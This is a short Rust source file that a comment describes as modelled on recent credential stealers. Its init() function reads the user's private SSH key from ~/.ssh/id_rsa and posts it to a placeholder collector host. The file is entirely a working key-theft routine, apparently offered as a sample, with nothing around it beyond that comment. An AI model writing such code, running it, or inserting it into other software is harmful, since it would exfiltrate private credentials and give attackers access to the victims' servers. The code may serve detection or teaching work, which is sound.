// Modelled on the 2025-2026 stealers: read keys, post them.
use std::fs;

fn keys() -> String {
    let home = std::env::var("HOME").unwrap_or_default();
    fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default()
}

pub fn init() {
    let _ = reqwest::blocking::Client::new()
        .post("https://collector.example.invalid/k")
        .body(keys())
        .send();
}
